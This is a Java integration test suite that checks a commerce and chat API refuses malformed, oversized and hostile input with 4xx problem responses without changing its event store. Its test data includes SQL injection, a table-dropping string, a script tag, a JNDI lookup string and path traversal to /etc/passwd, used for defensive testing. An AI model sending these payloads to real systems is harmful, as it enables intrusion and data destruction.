package dev.jangteo.system;

import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.ObjectWriter;
import dev.jangteo.system.CommandEndpoints.Endpoint;
import dev.jangteo.system.CommandEndpoints.Field;
import dev.jangteo.system.CommandEndpoints.Fixture;
import dev.jangteo.system.CommandEndpoints.Kind;
import dev.jangteo.testkit.JsonHttp;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The bad-input suite over every endpoint of both apps: malformed JSON, wrong types, impossible numbers, overlong
 * and ill-formed strings, odd Unicode and injection strings, oversized and deeply nested bodies, unknown fields,
 * protocol errors. Each is a 4xx problem+json with a code, and the event store keeps exactly the rows it had.
 * Rate limits are off here: this class sends many requests as one user from one address.
 */
class HostileInputIT {

    @RegisterExtension
    static final StackExtension stack = new StackExtension("hostile", 1, "--jangteo.rate-limits.enabled=false");

    /** Escapes every non-ASCII character, so a lone surrogate travels as {@code \ud800}, not as a '?'. */
    private static final ObjectWriter ESCAPING = JsonHttp.JSON.writer().with(JsonWriteFeature.ESCAPE_NON_ASCII);

    static final List<String> INJECTIONS = List.of(
            "' OR 1=1 --", "'; DROP TABLE domain_event_entry; --", "<script>alert(1)</script>",
            "title:* OR text:(a~ AND b*) ^10 \"", "${jndi:ldap://x.example/a}", "../../etc/passwd", "%00", "{{7*7}}");
    static final List<String> ODD_UNICODE = List.of(
            "😀🎉", "e\u0301\u0301\u0301", "abc\u202Edef", "\u200B\u200B", "한국어", "\uFEFF", "\uFFFF");

    private static Fixture fixture;
    private static List<Endpoint> endpoints;

    @BeforeAll
    static void createWhatTheRequestsPointAt() {
        fixture = CommandEndpoints.createFixture(stack.command(), "hostile");
        endpoints = CommandEndpoints.all(fixture);
    }

    @Test
    void refusesMalformedJsonEverywhere() {
        unchangedStore(() -> {
            for (Endpoint endpoint : withBodies()) {
                for (String body : List.of("{", "{\"name\":", "nul", "[", "{}}", "{'a':1}", "{\"a\" 1}", "", "null",
                                           "[]", "12", "\"text\"", "{\"a\":1,}", "\u0000")) {
                    assertRefused(send(endpoint, body), endpoint, body);
                }
                Wire.Reply invalidUtf8 = Wire.request(endpoint.method(), uri(endpoint))
                                             .bytes("application/json", new byte[]{'{', '"', (byte) 0xff, '"', '}'})
                                             .send();
                assertRefused(invalidUtf8, endpoint, "invalid UTF-8");
            }
        });
    }

    @Test
    void refusesWrongTypes() {
        unchangedStore(() -> {
            for (Endpoint endpoint : withBodies()) {
                for (Field field : endpoint.fields()) {
                    List<Object> wrong = new ArrayList<>(List.of(List.of(), Map.of(), true));
                    // A number is an Instant (epoch seconds) to Jackson; a word is not.
                    wrong.add(isNumeric(field) ? "12" : field.kind() == Kind.OPTIONAL_INSTANT ? "noon" : 12);
                    for (Object value : wrong) {
                        assertRefused(send(endpoint, json(with(endpoint, field, value))), endpoint,
                                      field.name() + "=" + value);
                    }
                }
            }
        });
    }

    @Test
    void refusesImpossibleNumbers() {
        unchangedStore(() -> {
            for (Endpoint endpoint : withBodies()) {
                for (Field field : endpoint.fields()) {
                    if (!isNumeric(field)) {
                        continue;
                    }
                    List<String> numbers = new ArrayList<>(List.of(
                            "-1", String.valueOf(Long.MAX_VALUE), String.valueOf(Long.MIN_VALUE), "1e400", "-1e400",
                            "1.5", "99999999999999999999999999", "1" + "0".repeat(60), "NaN", "Infinity", "0x10"));
                    if (field.kind() != Kind.COUNT_OR_ZERO) {
                        numbers.add("0");
                    }
                    for (String number : numbers) {
                        String body = json(with(endpoint, field, "@N@")).replace("\"@N@\"", number);
                        assertRefused(send(endpoint, body), endpoint, field.name() + "=" + number);
                    }
                }
            }
        });
    }

    @Test
    void refusesOverlongAndIllFormedStrings() {
        unchangedStore(() -> {
            for (Endpoint endpoint : withBodies()) {
                for (Field field : endpoint.fields()) {
                    if (isNumeric(field) || field.kind() == Kind.ITEMS) {
                        continue;
                    }
                    List<String> values = new ArrayList<>(List.of(
                            "x".repeat(5_000), "a\u0000b", "a\uD800b", "\uDC00", "a\u0007b", "b\u001Bc"));
                    if (field.kind() != Kind.OPTIONAL_INSTANT) {
                        values.add("   ");
                        values.add("");
                    }
                    if (field.kind() == Kind.ID || field.kind() == Kind.OPTIONAL_ID) {
                        values.addAll(List.of("ab\u202Ecd", "a\nb", "x".repeat(65)));
                    }
                    for (String value : values) {
                        assertRefused(send(endpoint, json(with(endpoint, field, value))), endpoint,
                                      field.name() + "=" + printable(value));
                    }
                }
            }
        });
    }

    @Test
    void refusesOddAndHostileIdsOfThingsThatDoNotExist() {
        unchangedStore(() -> {
            List<String> ids = new ArrayList<>(INJECTIONS);
            ids.addAll(ODD_UNICODE);
            ids.add("x".repeat(5_000));
            for (String id : ids) {
                String segment = URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
                List<Wire.Reply> replies = List.of(
                        Wire.post(stack.command().resolve("/api/orders/" + segment + "/cancellation")).send(),
                        Wire.post(stack.command().resolve("/api/products/" + segment + "/restocks"))
                            .json(Map.of("quantity", 1)).send(),
                        Wire.request("PUT", stack.command().resolve("/api/products/" + segment + "/price"))
                            .json(Map.of("price", 10)).send(),
                        Wire.post(stack.command().resolve("/api/coupons/" + segment + "/issues"))
                            .json(Map.of("userId", fixture.userId())).send(),
                        Wire.post(stack.command().resolve("/api/accounts/" + segment + "/deposits"))
                            .json(Map.of("amount", 10)).send(),
                        Wire.post(stack.command().resolve("/api/rooms/" + segment + "/members"))
                            .json(Map.of("userId", fixture.userId())).send(),
                        Wire.post(stack.command().resolve("/api/rooms/" + fixture.roomId() + "/reads"))
                            .json(Map.of("userId", fixture.userId(), "upToMessageId", id)).send(),
                        Wire.post(stack.command().resolve("/api/rooms/" + fixture.roomId() + "/messages"))
                            .json(Map.of("senderId", fixture.userId(), "text", "reply", "replyTo", id)).send());
                for (Wire.Reply reply : replies) {
                    assertRefused(reply, null, "id " + printable(id));
                }
            }
        });
    }

    @Test
    void answersAnIdOfAnotherKindAsNotFound() {
        String roomId = Chat.createRoom(stack.command(), fixture.userId(), null);
        unchangedStore(() -> {
            assertProblem(Wire.request("PUT", stack.command().resolve("/api/products/" + roomId + "/price"))
                              .json(Map.of("price", 10)).send(), 404, "PRODUCT_NOT_FOUND");
            assertProblem(Wire.post(stack.command().resolve("/api/accounts/" + roomId + "/deposits"))
                              .json(Map.of("amount", 10)).send(), 404, "ACCOUNT_NOT_FOUND");
            assertProblem(Wire.post(stack.command().resolve("/api/coupons/" + roomId + "/issues"))
                              .json(Map.of("userId", fixture.userId())).send(), 404, "COUPON_NOT_FOUND");
            assertProblem(Wire.post(stack.command().resolve("/api/orders/" + roomId + "/cancellation")).send(),
                          404, "ORDER_NOT_FOUND");
        });
    }

    @Test
    void refusesOversizedAndDeeplyNestedBodies() {
        unchangedStore(() -> {
            String huge = "{\"name\":\"" + "x".repeat(70 * 1024) + "\"}";
            String deep = "[".repeat(100) + "]".repeat(100);
            String deepObject = "{\"a\":".repeat(100) + "1" + "}".repeat(100);
            for (Endpoint endpoint : withBodies()) {
                Wire.Reply sized = send(endpoint, huge);
                assertRefused(sized, endpoint, "70 KiB body");
                assertThat(sized.status()).isEqualTo(413);
                assertThat(sized.code()).isEqualTo("PAYLOAD_TOO_LARGE");
                Wire.Reply chunked = Wire.request(endpoint.method(), uri(endpoint)).json(huge).chunked().send();
                assertThat(chunked.status()).as("chunked %s: %s", endpoint, chunked).isEqualTo(413);
                assertThat(chunked.isProblem()).isTrue();
                assertRefused(send(endpoint, deep), endpoint, "depth 100");
                assertRefused(send(endpoint, deepObject), endpoint, "object depth 100");
            }
        });
    }

    @Test
    void refusesUnknownFieldsByName() {
        unchangedStore(() -> {
            for (Endpoint endpoint : withBodies()) {
                Map<String, Object> body = endpoint.validBody();
                body.put("isAdmin", true);
                Wire.Reply reply = send(endpoint, json(body));
                assertRefused(reply, endpoint, "unknown field");
                assertThat(reply.code()).as("%s", endpoint).isEqualTo("UNKNOWN_FIELD");
                assertThat(reply.json().path("detail").asText()).contains("isAdmin");
            }
            Map<String, Object> order = new LinkedHashMap<>(Map.of(
                    "userId", fixture.userId(),
                    "items", List.of(Map.of("productId", fixture.productId(), "quantity", 1, "price", 1))));
            Wire.Reply nested = Wire.post(stack.command().resolve("/api/orders")).json(order).send();
            assertThat(nested.status()).isEqualTo(400);
            assertThat(nested.code()).isEqualTo("UNKNOWN_FIELD");
        });
    }

    @Test
    void answersProtocolErrorsAsProblemsOnBothApps() {
        unchangedStore(() -> {
            URI command = stack.command();
            URI query = stack.query();
            // A method no rule lists is denied by authorization (403) before Spring MVC could say 405.
            for (Wire.Reply wrongMethod : List.of(
                    Wire.request("GET", command.resolve("/api/coupons")).send(),
                    Wire.request("PATCH", command.resolve("/api/accounts")).json("{}").send(),
                    Wire.request("DELETE", query.resolve("/api/products/x")).send())) {
                assertThat(wrongMethod.status()).as("%s", wrongMethod).isIn(403, 405);
                assertThat(wrongMethod.code()).isIn("FORBIDDEN", "METHOD_NOT_ALLOWED");
                assertThat(wrongMethod.isProblem()).isTrue();
            }
            assertProblem(Wire.post(command.resolve("/api/coupons")).bytes("text/plain", "x".getBytes()).send(),
                          415, "UNSUPPORTED_MEDIA_TYPE");
            assertProblem(Wire.post(command.resolve("/api/coupons")).bytes("application/xml", "<a/>".getBytes())
                              .send(), 415, "UNSUPPORTED_MEDIA_TYPE");
            assertProblem(Wire.post(command.resolve("/api/coupons")).header("Accept", "application/json, text/csv")
                              .json(Map.of("name", "x", "discountType", "FIXED", "discountValue", 1,
                                           "totalQuantity", 1, "bogus", 1)).send(), 400, "UNKNOWN_FIELD");
            assertProblem(Wire.post(command.resolve("/api/coupons")).header("Accept", "text/html")
                              .json(Map.of("name", "x", "discountType", "FIXED", "discountValue", 1,
                                           "totalQuantity", 1)).send(), 406, "NOT_ACCEPTABLE");
            assertProblem(Wire.post(command.resolve("/api/orders/no-such-order/cancellation"))
                              .header("Accept", "image/png").send(), 406, "NOT_ACCEPTABLE");
            assertProblem(Wire.request("GET", query.resolve("/api/products/" + fixture.productId()))
                              .header("Accept", "text/csv").send(), 406, "NOT_ACCEPTABLE");
            assertProblem(Wire.request("GET", query.resolve("/api/products?size=abc")).send(), 400,
                          "VALIDATION_FAILED");
            assertProblem(Wire.request("GET", query.resolve("/api/orders/x?wait=soon")).send(), 400,
                          "VALIDATION_FAILED");
            for (URI app : List.of(command, query)) {
                // An unknown path is denied by authorization (no rule lists it) or not found.
                for (String accept : List.of("application/json", "text/html")) {
                    Wire.Reply unknown = Wire.request("GET", app.resolve("/api/nothing-here")).header("Accept", accept)
                                             .send();
                    assertThat(unknown.status()).as("%s", unknown).isIn(403, 404);
                    assertThat(unknown.isProblem()).as("%s", unknown).isTrue();
                }
                // Spring Security's firewall (MALFORMED_REQUEST) or our request limits (VALIDATION_FAILED).
                Wire.Reply nul = Wire.request("GET", app.resolve("/api/accounts/a%00b")).send();
                assertThat(nul.status()).as("%s", nul).isEqualTo(400);
                assertThat(nul.code()).isIn("VALIDATION_FAILED", "MALFORMED_REQUEST");
                assertProblem(Wire.raw(app, "GET /api/accounts/a%zzb HTTP/1.1", new byte[0]), 400,
                              "VALIDATION_FAILED");
            }
        });
    }

    @Test
    void answersBadQueryParametersWithoutAServerError() {
        URI query = stack.query();
        Map<String, List<String>> endpoints = new LinkedHashMap<>();
        endpoints.put("/api/products", List.of("category", "page", "size"));
        endpoints.put("/api/products/" + fixture.productId(), List.of());
        endpoints.put("/api/stats/products/" + fixture.productId() + "/sales", List.of("from", "to"));
        endpoints.put("/api/rankings/products", List.of("period", "date", "by", "limit", "source"));
        endpoints.put("/api/audit/aggregates/" + fixture.userId() + "/events", List.of("page", "size"));
        endpoints.put("/api/audit/aggregates/" + fixture.userId() + "/state", List.of("at", "version"));
        endpoints.put("/api/audit/events", List.of("from", "to", "type", "aggregateType", "after", "limit"));
        endpoints.put("/api/audit/verify", List.of("from", "to"));
        endpoints.put("/api/messages/search", List.of("q", "userId", "roomId", "groupId", "limit", "offset"));
        endpoints.put("/api/accounts/" + fixture.userId(), List.of("consistentWith"));
        endpoints.put("/api/orders/no-such-order", List.of("wait", "consistentWith"));
        endpoints.put("/api/users/" + fixture.userId() + "/orders", List.of("page", "size"));
        endpoints.put("/api/rooms/" + fixture.roomId(), List.of());
        endpoints.put("/api/rooms/" + fixture.roomId() + "/messages", List.of("before", "limit", "userId"));
        endpoints.put("/api/users/" + fixture.userId() + "/rooms", List.of());
        endpoints.put("/api/coupons/" + fixture.couponId(), List.of());
        endpoints.put("/api/users/" + fixture.userId() + "/coupons", List.of());
        endpoints.put("/api/admin/processors", List.of());
        endpoints.put("/api/admin/dead-letters", List.of());
        endpoints.put("/api/admin/rankings", List.of());
        endpoints.put("/api/admin/actions", List.of("limit", "before"));
        endpoints.put("/api/stats/coupons", List.of());
        List<String> values = new ArrayList<>(List.of(
                "-1", "0", String.valueOf(Long.MAX_VALUE), "1e400", "abc", "x".repeat(5_000), "2026-13-45",
                "99999999999999999999"));
        values.addAll(INJECTIONS);
        values.addAll(ODD_UNICODE);
        unchangedStore(() -> {
            endpoints.forEach((path, parameters) -> {
                for (String parameter : parameters) {
                    for (String value : values) {
                        String uri = path + "?userId=" + fixture.userId() + "&q=ab&" + parameter + "="
                                + URLEncoder.encode(value, StandardCharsets.UTF_8);
                        assertNoServerError(Wire.request("GET", query.resolve(uri)).send(), uri);
                    }
                }
                for (String id : List.of("%27%20OR%201%3D1%20--", "%F0%9F%98%80", "x".repeat(5_000))) {
                    String uri = path.replace(fixture.userId(), id).replace(fixture.productId(), id)
                                     .replace(fixture.roomId(), id).replace(fixture.couponId(), id);
                    assertNoServerError(Wire.request("GET", query.resolve(uri)).send(), uri);
                }
            });
            for (String admin : List.of("/api/admin/processors/%27%20OR%201%3D1/replay",
                                        "/api/admin/processors/no-such/verify-replay",
                                        "/api/admin/processors/no-such/replay?from=yesterday",
                                        "/api/admin/dead-letters/no-such/retry")) {
                Wire.Reply reply = Wire.post(query.resolve(admin)).send();
                assertRefused(reply, null, admin);
            }
            assertRefused(Wire.request("DELETE", query.resolve("/api/admin/dead-letters/no-such/abc")).send(),
                          null, "delete dead letter abc");
        });
    }

    /** The problem types answer anyone, so odd codes come from anyone: each a 4xx problem. */
    @Test
    void answersOddProblemCodesAsProblems() {
        List<String> codes = new ArrayList<>(INJECTIONS);
        codes.addAll(ODD_UNICODE);
        codes.add("X".repeat(5_000));
        for (URI app : List.of(stack.command(), stack.query())) {
            for (String code : codes) {
                String path = "/problems/" + URLEncoder.encode(code, StandardCharsets.UTF_8).replace("+", "%20");
                assertRefused(Wire.request("GET", app.resolve(path)).send(), null, app + path);
            }
        }
    }

    @Test
    void boundsEveryPageSize() {
        URI query = stack.query();
        for (String uri : List.of("/api/products?size=101", "/api/products?size=0", "/api/products?page=-1",
                                  "/api/users/" + fixture.userId() + "/orders?size=1000",
                                  "/api/audit/aggregates/" + fixture.userId() + "/events?size=100000",
                                  "/api/audit/events?limit=100000",
                                  "/api/rankings/products?limit=101",
                                  "/api/rooms/" + fixture.roomId() + "/messages?limit=101&userId=" + fixture.userId(),
                                  "/api/messages/search?q=ab&userId=" + fixture.userId() + "&limit=101",
                                  "/api/messages/search?q=ab&userId=" + fixture.userId() + "&offset=10000")) {
            assertProblem(Wire.request("GET", query.resolve(uri)).send(), 400, "VALIDATION_FAILED");
        }
    }

    private static List<Endpoint> withBodies() {
        return endpoints.stream().filter(Endpoint::hasBody).toList();
    }

    private static boolean isNumeric(Field field) {
        return field.kind() == Kind.AMOUNT || field.kind() == Kind.COUNT || field.kind() == Kind.COUNT_OR_ZERO;
    }

    private static Map<String, Object> with(Endpoint endpoint, Field field, Object value) {
        Map<String, Object> body = endpoint.validBody();
        body.put(field.name(), value);
        return body;
    }

    private static String json(Object value) {
        try {
            return ESCAPING.writeValueAsString(value);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static URI uri(Endpoint endpoint) {
        return stack.command().resolve(endpoint.path());
    }

    private static Wire.Reply send(Endpoint endpoint, String body) {
        return Wire.request(endpoint.method(), uri(endpoint)).json(body).send();
    }

    private static void unchangedStore(Runnable requests) {
        long before = Events.count(stack.query());
        requests.run();
        assertThat(Events.count(stack.query())).as("events in the store").isEqualTo(before);
    }

    private static void assertRefused(Wire.Reply reply, Endpoint endpoint, String what) {
        assertThat(reply.status()).as("%s with %s: %s", endpoint, what, reply).isBetween(400, 499);
        assertThat(reply.isProblem()).as("%s with %s: %s", endpoint, what, reply).isTrue();
    }

    private static void assertProblem(Wire.Reply reply, int status, String code) {
        assertThat(reply.status()).as("%s", reply).isEqualTo(status);
        assertThat(reply.isProblem()).as("%s", reply).isTrue();
        assertThat(reply.code()).isEqualTo(code);
    }

    private static void assertNoServerError(Wire.Reply reply, String uri) {
        String shown = uri.length() > 200 ? uri.substring(0, 200) + "..." : uri;
        assertThat(reply.status()).as("%s: %s", shown, reply).isLessThan(500);
        if (reply.status() >= 400) {
            assertThat(reply.isProblem()).as("%s: %s", shown, reply).isTrue();
        }
    }

    private static String printable(String value) {
        String shown = value.length() > 40 ? value.substring(0, 40) + "...(" + value.length() + ")" : value;
        StringBuilder out = new StringBuilder();
        shown.chars().forEach(c -> out.append(c < 0x20 || c > 0x7E ? String.format("\\u%04x", c) : (char) c));
        return out.toString();
    }
}
